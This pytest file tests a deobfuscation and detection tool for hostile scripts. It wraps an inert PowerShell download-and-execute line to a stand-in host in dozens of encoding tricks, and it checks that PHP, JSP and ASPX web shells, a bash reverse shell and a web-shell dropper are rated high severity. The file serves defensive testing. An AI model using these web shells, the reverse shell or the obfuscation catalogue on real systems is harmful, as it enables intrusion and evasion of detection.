"""Layers of scripts: each trick by itself, chains of them, the bounds, and the traits. All inputs are inert texts made here."""

from __future__ import annotations

import base64
import binascii
import bz2
import codecs
import gzip
import lzma
import random
import sysconfig
import zlib
from pathlib import Path

import pytest

from commodore.readers.layers import as_text, driver, indicated, model, traits, unfold
from commodore.readers.layers.analysis import analysed
from commodore.readers.layers.languages import language_of, languages
from commodore.readers.layers.texts import decoded
from scout.bounded import pattern_error
from tests.pattern_steps import linear

PLAIN = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://stage.example.invalid/a.txt') # inert"


def texts(text: str, language: str = "") -> list[str]:
    return [layer.text for layer in unfold(text, language).layers]


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def xored(data: bytes, key: bytes) -> bytes:
    return bytes(byte ^ key[n % len(key)] for n, byte in enumerate(data))


TRICKS = {
    "base64": ("powershell", f"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(PLAIN.encode())}'))"),
    "encoded command": ("command", f"powershell.exe -NoP -EncodedCommand {b64(PLAIN.encode('utf-16-le'))}"),
    "base64 in lines": ("shell", "base64 -d <<E\n" + base64.encodebytes(PLAIN.encode()).decode() + "E"),
    "hexadecimal": ("", f"$x = '{PLAIN.encode().hex()}'"),
    "hexadecimal with signs": ("", "-".join(f"{byte:02X}" for byte in PLAIN.encode())),
    "hexadecimal with prefixes": ("powershell", ",".join(f"0x{byte:02x}" for byte in PLAIN.encode())),
    "gzip": ("powershell", f"New-Object IO.Compression.GzipStream([Convert]::FromBase64String('{b64(gzip.compress(PLAIN.encode()))}'))"),
    "zlib": ("python", f"exec(zlib.decompress(base64.b64decode('{b64(zlib.compress(PLAIN.encode()))}')))"),
    "deflate": ("powershell", f"DeflateStream FromBase64String('{b64(zlib.compress(PLAIN.encode())[2:-4])}')"),
    "one byte xor": ("python", f"d = '{b64(xored(PLAIN.encode(), bytes([0x8F])))}'"),
    "three bytes xor": ("python", f"d = '{b64(xored(PLAIN.encode(), bytes([0x8F, 0x11, 0xC3])))}'"),
    "four bytes xor": ("python", f"d = '{b64(xored(PLAIN.encode(), bytes([0x9F, 0x81, 0xE3, 0xAA])))}'"),
    "character codes": ("jscript", "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in PLAIN) + "))"),
    "list of codes": ("powershell", "(" + "~".join(str(ord(c)) for c in PLAIN) + ").split('~') | % {[char][int]$_}"),
    "reversed": ("vbscript", f'Execute StrReverse("{PLAIN[::-1]}")'),
    "percent": ("jscript", "unescape('" + "".join(f"%{ord(c):02x}" for c in PLAIN) + "')"),
    "octal": ("shell", "printf '" + "".join(f"\\{ord(c):03o}" for c in PLAIN) + "'"),
    "base32": ("python", f"exec(base64.b32decode('{base64.b32encode(PLAIN.encode()).decode()}'))"),
    "base85": ("python", f"exec(base64.b85decode({base64.b85encode(PLAIN.encode())!r}))"),
    "uuencode": (
        "php",
        "<?php eval(convert_uudecode('\n"
        + "".join(binascii.b2a_uu(PLAIN.encode()[n : n + 45]).decode() for n in range(0, 120, 45))
        + "`\n'));",
    ),
    "reversed base64": ("powershell", f"$r='{b64(PLAIN.encode())[::-1]}'.ToCharArray();[array]::Reverse($r)"),
    "reversed base64 of zlib": ("python", f"_ = lambda __: d(__[::-1]); _({b64(zlib.compress(PLAIN.encode())).encode()[::-1]!r})"),
    "bzip2": ("python", f"exec(bz2.decompress(base64.b64decode('{b64(bz2.compress(PLAIN.encode()))}')))"),
    "xz": ("python", f"exec(lzma.decompress(base64.b64decode('{b64(lzma.compress(PLAIN.encode()))}')))"),
    "zlib in a literal": ("python", f"exec(zlib.decompress({zlib.compress(PLAIN.encode())!r}))"),
    "rot13": ("python", f"exec(codecs.decode({codecs.encode(PLAIN, 'rot13')!r}, 'rot13'))"),
    "rot13 of tr": ("shell", f"echo \"{codecs.encode(PLAIN, 'rot13')}\" | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"),
    "binary codes": ("powershell", "'" + " ".join(f"{ord(c):08b}" for c in PLAIN) + "' -split ' '|%{[char][Convert]::ToInt32($_,2)}"),
    "octal codes": ("powershell", "'" + ",".join(f"{ord(c):o}" for c in PLAIN) + "'.Split(',')|%{[char]([Convert]::ToInt16($_,8))}"),
    "codes plus eleven": (
        "vbscript",
        "a = Array(" + ",".join(str(ord(c) + 11) for c in PLAIN) + ")\r\nFor Each i In a: s = s & Chr(i - 11)",
    ),
    "codes times three": ("jscript", "[" + ", ".join(str(ord(c) * 3) for c in PLAIN) + "].map(c => String.fromCharCode(c / 3))"),
    "codes in quotes": ("powershell", "'" + "','".join(str(ord(c)) for c in PLAIN) + "'|%{$s+=[char]([int]$_)}"),
    "codes between stars": ("vbscript", 'd="' + "*".join(str(ord(c)) for c in PLAIN) + '"'),
    "written from the end": ("powershell", f'$a="{PLAIN[::-1]}"; -join $a[-1..-($a.Length)] | iex'),
    "rev": ("shell", f'rev <<< "{PLAIN[::-1]}" | bash'),
    "numbered words": (
        "jscript",
        "}('0-1 (2-3 4.5).6(\\'7://8.9.a/b.c\\') # d',14,14,"
        "'Invoke|Expression|New|Object|Net|WebClient|DownloadString|http|stage|example|invalid|a|txt|inert'.split('|'),0,{}))",
    ),
    "behind the script": ("shell", "#!/bin/sh\ntail -n+3 $0 | gzip -d | sh; exit\n" + gzip.compress(PLAIN.encode()).decode("latin-1")),
    "backslash x": ("python", "exec('" + "".join(f"\\x{ord(c):02x}" for c in PLAIN) + "')"),
    "php chain": (
        "php",
        "<?php eval(gzinflate(base64_decode(str_rot13('" + codecs.encode(b64(zlib.compress(PLAIN.encode())[2:-4]), "rot13") + "')))); ?>",
    ),
}


@pytest.mark.parametrize("trick", TRICKS)
def test_a_layer_is_found_behind_each_encoding(trick):
    language, text = TRICKS[trick]
    assert any(PLAIN in layer for layer in texts(text, language)), texts(text, language)


REWRITTEN = [
    ("command", "powershell $env:x|.(Get-C`ommand ('{1}e{0}'-f'x','i'))", "Get-Command 'iex'"),
    ("batch", "c^md /c p^ow^ersh^ell -w hidden -c 1", "cmd /c powershell -w hidden"),
    ("shell", "w'g'et -q http://a.example.invalid/x", "wget -q http"),
    ("command", 'cmd /c wh""oami /all & rund""ll32 a.dll,b & schta""sks /create', "schtasks /create"),
    (
        "powershell",
        "I`E`X (N`ew-Obj`ect Net.Web`Client).Down`loadString('http://a.example.invalid')",
        "New-Object Net.WebClient).DownloadString",
    ),
    ("powershell", "$u='http://a.exam'+'ple.invalid/'+'x'", "http://a.example.invalid/x"),
    ("vbscript", 'Set s = CreateObject("WScr" & "ipt.Sh" & "ell")', "WScript.Shell"),
    ("php", "$f='ev'.'al'; $g='http:/'.'/a.example.invalid/x';", "http://a.example.invalid/x"),
    ("powershell", "&(\"{1}{2}{0}\" -f 'ression','Invoke-','Exp') $x", "Invoke-Expression $x"),
    ("powershell", "'hZZp://a.exaZple.invalid'.Replace('ZZ','tt').Replace('Z','m')", "http://a.example.invalid"),
    ("powershell", "'hqqp://a.example.invalid' -replace 'qq','tt'", "http://a.example.invalid"),
    ("php", "str_replace('~','','ht~tp:~//a.exa~mple.invalid/')", "http://a.example.invalid/"),
    (
        "vbscript",
        'x = Chr(104) & Chr(116) & chr(116) & Chr(112) & Chr(58) & Chr(47) & Chr(47) & ChrW(&H61) & ".example.invalid/"',
        "http://a.example",
    ),
    ("powershell", "$a=[char]0x69+[char]101+[char]120; & $a (irm http://a.example.invalid)", "iex (irm http"),
    ("powershell", "$a='Downl';$b='oadString';(New-Object Net.WebClient).($a+$b).Invoke('x')", ".DownloadString"),
    ("batch", "set q=abcdefghijklmnopqrstuvwxyz\n%q:~2,1%%q:~20,1%%q:~17,1%%q:~11,1% http://a.example.invalid", "curl http://a"),
    ("python", "x = 'dilavni.elpmaxe.a//:ptth'[::-1]", "http://a.example.invalid"),
    ("powershell", "$x=''\n$x+='http'\n$x += '://a.exam'\n$x+='ple.invalid/'", "http://a.example.invalid/"),
    (
        "vbscript",
        'x = ""\r\nx = x & "http:"\r\nx = x & Chr(141/3) & Chr(141/3) & Chr(97*1) & ".exa"\r\nx = x & "mple.invalid/"',
        "http://a.example.invalid/",
    ),
    ("php", "$u = 'ht'; $u .= 'tp://a'; $u .= '.example.invalid';", "http://a.example.invalid"),
    ("powershell", "$u = ('http', '://a.exam', 'ple.invalid') -join ''", "http://a.example.invalid"),
    ("jscript", "u = ['http', '//a.example.invalid/'].join(':')", "http://a.example.invalid/"),
    ("python", "u = ''.join(['http:', '//a.exam', 'ple.invalid/'])", "http://a.example.invalid/"),
    ("php", "$k = array('http:', '//a.exam', 'ple.invalid/'); $u = implode('', $k);", "http://a.example.invalid/"),
    ("vbscript", 'u = Join(Array("http:", "//a.exam", "ple.invalid/"), "")', "http://a.example.invalid/"),
    ("jscript", "var p=['ht','tp:/','/a.example','.invalid/'];x(p[0]+p[0x1]+p[2]+p[3])", "http://a.example.invalid/"),
    ("shell", "a=ht;b='tp://a';c=.exa;d=mple.invalid\nwget -qO- $a$b${c}$d/x", "http://a.example.invalid/x"),
    ("shell", "cu''rl${IFS}ht\"tp\":/\"/\"a.exa'mple'.in\\valid/x", "curl http://a.example.invalid/x"),
    ("powershell", "$a='http';$b='://a.';$c='example.invalid';iwr \"$a$b$c/\"", "http://a.example.invalid/"),
    ("batch", "setlocal enabledelayedexpansion\nset x=cu#rl ht#tp://a.ex#ample.invalid\n!x:#=!", "curl http://a.example.invalid"),
    ("powershell", "'h~~p://a.example.invalid/?q=''x' -creplace '~~','tt'", "http://a.example.invalid/"),
    ("jscript", "unescape('" + "".join(f"%u{ord(c):04x}" for c in "http://a.example.invalid") + "')", "http://a.example.invalid"),
    ("lua", "load('" + "".join(f"\\{ord(c)}" for c in "http://a.example.invalid") + "')()", "http://a.example.invalid"),
]


@pytest.mark.parametrize(("language", "text", "wanted"), REWRITTEN)
def test_tricks_with_quotes_and_words_are_undone(language, text, wanted):
    assert any(wanted in layer for layer in texts(text, language)), texts(text, language)


BLANKS = " \t\r\n\x0b\x1c\x85\xa0\u2003\u3000"
PIECES = [
    *(text for _, text in TRICKS.values()),
    *(text for _, text, _ in REWRITTEN),
    *("$x.('Load')", 'window["eval"]("a")', "$a.'b'", "& 'calc' ", "wh''oami", "c\\url http", "'a' + 'b'", '"a"&"b"', "( 'a' ) + ('b' )"),
    *("\\u0061\\u0062\\u0063\\u0064", "&#x61;&#x62;&#x63;&#x64;", "&#97;&#98;&#99;&#100;", "\\141\\142\\143\\144", "p^o^w"),
    *("echo 'olleh'|rev", "'olleh'[-1..-5] -join ''", "set a=b\n%a%", "'olleh'.split('').reverse().join('')", "'a-b'.split('-').join('')"),
    *("'axb'.replace(/x/g,'')", "replace('axb','x','')", "a='b';$a", "echo aGVsbG8gd29ybGQK", "powershell /e aGVsbG8gd29ybGQK"),
    *("atob('aGVsbG8gd29ybGQK')", "String.fromCharCode(104,101,108)"),
    *("$x='a'\n$x+='b'\n$x+='c'\n", "x = x & 'ab'\nx = x & 'cd'\n", "a=ht;b=tp;c=s\n$a$b$c", "['a', 'b'].join('')", "('a','b') -join ''"),
    *(
        "var p=['a', 'b'];p[0]+p[01]+p[0X1]+p[99]",
        "k=('a','b');''.join(k)",
        "x='\\x9c\\x00ab\\x01\\x02cdefghijklmnopqrstuvwxyz'",
        'ht"tp"://a${IFS}b',
    ),
    *(
        "return p                }('0 1',2,2,'ab|cd'.split('|'))",
        "begin 644 x\n#86)C\n`\n",
        "b32decode('NBSWY3DPEB3W64TMMQ')",
        "a\n\x1f\x8b\x08abc",
    ),
    *("'llehsrewop c- xei'", "tr 'a-z' 'n-za-m' 'uggc://n.rknzcyr/cnguf'"),
]
OTHERS = (*BLANKS, "'", '"', "\u0661", "\u017f", "K", "é", "_", "+")


def test_a_decoder_that_finds_something_has_its_clue():
    """Pieces of tricks in random order, with other blanks, digits, quotes and letters in them."""
    draw, decoders = random.Random(4), (*driver.rewriters(), *driver.extractors())
    found = {one.name: 0 for one in decoders}
    for _ in range(3000):
        pieces = draw.choices(PIECES, k=draw.randrange(1, 4))
        text = "".join(piece[draw.randrange(len(piece)) // 3 :][: draw.randrange(8, 200)] for piece in pieces)
        for _ in range(draw.randrange(4)):
            text = text.replace(draw.choice(" '\",a1."), draw.choice(OTHERS), draw.choice((1, -1)))
        for one in decoders:
            if one.rewrite(text)[1] if hasattr(one, "rewrite") else list(one.extract(text)):
                found[one.name] += 1
                assert one.clue.within(text.encode()), (one.name, text)
    assert not {name for name, times in found.items() if times < 3} - {"compressed", "script encoder", "script_encoder"}, found


def test_the_script_encoder_is_decoded():
    """The text and its encoding are those of a test of another program, whose byte 0x7F was restored: 14 characters, as its head says."""
    assert texts("#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@", "vbscript") == ['MsgBox "Hello"']


def test_layers_within_layers_say_how_they_were_encoded():
    text = b64(gzip.compress(PLAIN.encode()))
    found = unfold(f"x={text}").layers
    assert [layer.how for layer in found] == [("base64",), ("base64", "gzip")]
    assert found[-1].text == PLAIN


def test_fifty_layers_are_read_and_more_are_said():
    text = "curl http://deep.example.invalid/ # inert"
    for _ in range(12):
        text = b64(text.encode())
    assert max(layer.depth for layer in unfold(text).layers) == 12
    many = "<?php $x = 'a';"
    for n in range(60):
        many = f"'{many.encode().hex() if n < 6 else many[::-1]}'"
        many = f"strrev({many})" if n >= 6 else f"hex2bin({many})"
    result = unfold(many, "php")
    assert max(layer.depth for layer in result.layers) <= model.DEEPEST


def test_a_bomb_is_bounded_and_said(monkeypatch):
    monkeypatch.setattr(driver, "LONGEST", 1 << 16)
    monkeypatch.setattr(driver, "TOTAL", 1 << 18)
    bomb = zlib.compress(PLAIN.encode() + b" " * (1 << 20), 9)
    assert any("its beginning was read" in bound for bound in unfold(f"FromBase64String('{b64(bomb)[:60_000]}')").bounds)
    result = unfold(" ".join(b64(zlib.compress(str(n).encode() + b"echo inert " * 5_000, 9)) for n in range(8)))
    assert sum(len(layer.text) for layer in result.layers) <= 1 << 18
    assert any("characters" in bound for bound in result.bounds)


@pytest.mark.parametrize(
    "text",
    [
        *(c * 200_000 for c in "'\"%("),
        *("'a'+" * 50_000, "\\'" * 100_000, "#@~^" * 50_000, "a.b." * 50_000, "^a" * 100_000, "eval(" * 40_000, "1," * 100_000),
        *("\\\\a" * 60_000, "://" * 60_000, "base64_decode('" * 20_000, "set a=b\n%a%" * 20_000, "$a='x';" * 30_000, "A" * 400_000),
        *("'x'.replace('x'," * 10_000, "aa-" * 60_000),
        *("$x+='a';" * 30_000, "'a'," * 60_000, "['a'," * 40_000, "$a$b$c " * 30_000, "a=b;" * 50_000, "1 " * 100_000, "\\x41" * 60_000),
        *(
            "''" * 100_000,
            "base85 b85decode('" * 20_000,
            "rot13 'aaaaaaaaaaaaaaaa" * 10_000,
            "'|'.split('|')" * 15_000,
            "//:ptth'" * 30_000,
        ),
        *("virtualalloc " * 20_000, "$a=$_GET[1];" * 20_000, "curl -o abcd\n" * 20_000, "request.getparameter(" * 15_000),
    ],
)
def test_hostile_text_costs_linear_time(text):
    """Each took minutes with a pattern that begins anew at every character; read as a whole, it only has to end."""
    linear(lambda n: analysed(text[:n], ""))
    analysed(text, "")


def test_a_long_script_is_cut_and_says_so(monkeypatch):
    monkeypatch.setattr(driver, "LONGEST", 1 << 16)
    text = "x = 1; " * 40_000
    result = unfold(text, "jscript")
    assert any(f"{1 << 16:,} of {len(text):,}" in bound for bound in result.bounds)


@pytest.mark.parametrize("data", [b"\xff\xfea\0b", b"\xff\xfe\x00\xd8\x00\xd8", b"\xfe\xff\0", b"\0", b"a\0b\0c\0\xff", bytes(range(256))])
def test_invalid_encodings_are_text_of_some_kind(data):
    assert isinstance(as_text(data), str)
    analysed(as_text(data), "")


def test_utf_16_with_and_without_mark():
    for data in (PLAIN.encode("utf-16"), PLAIN.encode("utf-16-le"), PLAIN.encode("utf-16-be"), PLAIN.encode("utf-8-sig"), PLAIN.encode()):
        assert as_text(data) == PLAIN


def test_random_words_and_pictures_are_no_layers():
    rng = random.Random(1)
    for _ in range(200):
        assert decoded("base64", rng.randbytes(30)) is None
    assert texts("url(data:image/png;base64," + b64(b"\x89PNG\r\n\x1a\n" + rng.randbytes(300)) + ")") == []
    assert texts("getElementsByClassName addEventListenerForTheFirstTime sha256:" + rng.randbytes(32).hex()) == []


def test_indicators():
    found = indicated(
        'see http://u@h.example.invalid:8080/a?b=1, "cdn.other.example" and 198.51.100.7 not v1.2.3.4 or 10.2.3.4.5\n'
        "C:\\Users\\Public\\a.exe \\\\srv\\share\\x.dll %TEMP%\\q.ps1 /tmp/.x/y\nregsvr32.exe /s a.dll\nscurl x"
    )
    assert found.urls == ("http://u@h.example.invalid:8080/a?b=1",)
    assert found.hosts == ("h.example.invalid", "cdn.other.example")
    assert found.addresses == ("198.51.100.7",)
    assert found.paths[-1] == "/tmp/.x/y"
    assert any(path.startswith("C:\\Users\\Public\\a.exe") for path in found.paths)
    assert found.commands == ("regsvr32.exe /s a.dll",)


HIGH = {
    "php": "<?php if (isset($_POST['p'])) { @eval(base64_decode($_POST['p'])); } // inert",
    "php call": "<?php $_GET['a']($_POST['b']); // inert",
    "jsp": '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); // inert %>',
    "aspx": '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");/* inert */%>',
    "php kept": "<?php $c = $_GET['c']; system($c); // inert",
    "php kept call": "<?php $f = @$_POST['f']; $x = 1; $f($_POST['x']); // inert",
    "jsp kept": '<%@ page import="java.io.*" %><% String c = request.getParameter("c"); Runtime.getRuntime().exec(c); // inert %>',
    "shell": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 # inert",
    "powershell": f"powershell -w hidden -enc {b64(PLAIN.encode('utf-16-le'))}",
}


@pytest.mark.parametrize("kind", HIGH)
def test_what_no_honest_script_does_is_high(kind):
    assert analysed(HIGH[kind], kind.split()[0]).severity == "high"


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("powershell", "$c = New-Object Net.WebClient\n$c.DownloadFile('https://vendor.example/setup.msi', $f)\nmsiexec /i $f"),
        ("php", "<?php $data = json_decode(base64_decode($_POST['data'])); exec('ls ' . escapeshellarg($dir));"),
        ("shell", "#!/bin/sh\ncurl -fsSL https://vendor.example/key.asc -o /etc/apt/keyrings/v.asc\n"),
        ("python", "import base64\nprint(base64.b64decode('aGVsbG8gd29ybGQgdGhpcyBpcyBmaW5l').decode())"),
        ("php", "<?php $mode = $_GET['mode']; $other = 'date'; system($other); $mode_names($x);"),
        ("shell", "#!/bin/sh\nD=/usr/share/x; B=$D/bin; curl -fsSL https://vendor.example/a.tar.gz -o a.tar.gz; tar xf a.tar.gz"),
        ("vbscript", 'Set s = CreateObject("WScript.Shell")\ns.Run "notepad.exe"'),
    ],
)
def test_what_administrators_do_is_no_finding(language, text):
    assert analysed(text, language).severity == ""


def test_traits_and_languages_are_sound():
    spoken = {language for trait in traits.traits() for language in trait.languages}
    assert spoken <= {*languages(), "command", "vba"}
    assert len({trait.group for trait in traits.traits()}) >= 5
    for trait in traits.traits():
        patterns = [trait.pattern, *(clue for clues, _ in trait.near for clue in clues)]
        assert not [pattern for pattern in patterns if pattern_error(pattern)], "a run compiles a pattern when a text has its words"


@pytest.mark.parametrize(
    ("name", "head", "language"),
    [
        ("run", b"#!/usr/bin/env -S python3 -u\n", "python"),
        ("x.txt", b"#!/bin/sh -e\n", "shell"),
        ("a.PS1", b"", "powershell"),
        ("page", b"<html><?php echo 1;", "php"),
        ("a.py", b"#!/bin/bash\n", "shell"),
        ("notes", b"hello", ""),
    ],
)
def test_the_language_of_a_file(name, head, language):
    assert language_of(name, head) == language


def test_the_standard_library_has_no_finding():
    """Honest scripts that decode, download and run: 80 files of Python's own library, the same on every machine of a version."""
    folder = Path(sysconfig.get_path("stdlib"))
    names = [*sorted(folder.glob("*.py"))[::4], *sorted(folder.glob("encodings/*.py"))[:5], folder / "base64.py", folder / "zipfile.py"]
    for path in (name for name in names[:80] if name.exists()):
        assert analysed(as_text(path.read_bytes()), "python").severity == "", path


PAGE = "var r=/a/.exec(this.request(1)),x=%s;new ActiveXObject('wscript.shell'); a.exec(b.request(2));"


def test_what_a_page_does_counts_in_pages_and_in_what_a_script_unpacks_as_one() -> None:
    """Scripts for browsers have calls named like those of a page; their own text, without its tricks, is no page."""
    webshell = b"<?php @eval($_POST['x']); ?>" * 3

    def ids(text: str, language: str) -> list[str]:
        return analysed(text, language).fields.get("escadre.traits.ids", [])

    browser = PAGE % "'a'+'b'+'c'+'d'+'e'+'f'"
    assert "aspx-input-run" in ids(browser, "aspx")
    assert "aspx-input-run" not in ids(browser, "jscript")
    dropper = f"echo {base64.b64encode(webshell).decode()} | base64 -d > /var/www/html/x.php"
    assert "php-input-evaluated" in ids(dropper, "shell")
